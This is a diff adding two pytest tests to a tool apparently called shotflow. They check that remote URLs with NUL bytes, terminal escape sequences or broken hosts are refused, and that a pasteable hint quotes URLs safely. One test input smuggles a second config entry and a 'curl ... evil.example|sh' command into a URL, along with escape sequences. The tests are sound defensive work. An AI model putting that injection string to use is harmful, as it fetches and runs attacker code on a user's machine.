@@ -547,6 +547,56 @@ def test_an_untrusted_storyboard_remote_is_not_used_and_the_run_says_how_to_trus
     assert push.returncode == 2 and "trusted_remotes" in push.stderr and "Traceback" not in push.stderr
 
 
+def test_a_storyboard_remote_with_a_control_character_or_a_broken_host_is_refused_never_a_crash(tmp_path, monkeypatch):
+    """A NUL (spelled %00) no path takes, an escape sequence that would rewrite the warning's
+    line on the terminal, an unclosed [ urlsplit cannot parse: a ConfigError naming the URL
+    escaped, before any folder or trust is looked at."""
+    from shotflow import userconfig
+    from shotflow.errors import ConfigError
+    from shotflow.remote import resolve_url
+
+    config = tmp_path / "config.toml"
+    config.write_text(f'trusted_remotes = ["{(tmp_path / "share").as_uri()}", "s3://team"]\n')
+    monkeypatch.setenv("SHOTFLOW_CONFIG", str(config))
+    monkeypatch.delenv("SHOTFLOW_REMOTE", raising=False)
+    userconfig.load_from.cache_clear()
+    for url in (
+        (tmp_path / "share").as_uri() + "/x%00y",  # under a trusted folder: realpath would raise
+        (tmp_path / "project").as_uri() + "/cache%00",  # inside the project: the same
+        "s3://team/x\x1b[2K\rall fine",
+        "s3://team/x%1b[2K",
+        "s3://[team/x",
+    ):
+        with pytest.raises(ConfigError) as caught:
+            resolve_url(None, url, tmp_path / "project")
+        assert "\x1b" not in str(caught.value) and "\0" not in str(caught.value)
+    userconfig.load_from.cache_clear()
+
+
+def test_the_untrusted_remote_hint_quotes_the_url_as_one_toml_entry_and_one_shell_word(tmp_path, monkeypatch):
+    """The hint is a line to paste: a storyboard's URL must not add a second entry (a bucket of
+    the user's own) to trusted_remotes, nor a command to the shell."""
+    import shlex
+    import tomllib
+
+    from shotflow import userconfig
+    from shotflow.remote import UntrustedRemote, resolve_url
+
+    config = tmp_path / "config.toml"
+    config.write_text("")
+    monkeypatch.setenv("SHOTFLOW_CONFIG", str(config))
+    monkeypatch.delenv("SHOTFLOW_REMOTE", raising=False)
+    userconfig.load_from.cache_clear()
+    url = 's3://evil/x","s3://your-bucket;curl${IFS}evil.example|sh'
+    with pytest.raises(UntrustedRemote) as caught:
+        resolve_url(None, url)
+    hint = caught.value.hint
+    line = hint.removeprefix("add ").partition(" to ")[0]
+    assert tomllib.loads(line)["trusted_remotes"] == [url]
+    assert shlex.split(hint.rpartition("--remote ")[2]) == [url]
+    userconfig.load_from.cache_clear()
+
+
 def test_the_storyboard_names_a_default_remote_and_the_global_flag_overrides_it(example, tmp_path):
     story = example("heist")
     board, flag = story.parent / "team-cache", tmp_path / "flag"  # a storyboard's folder: inside its project
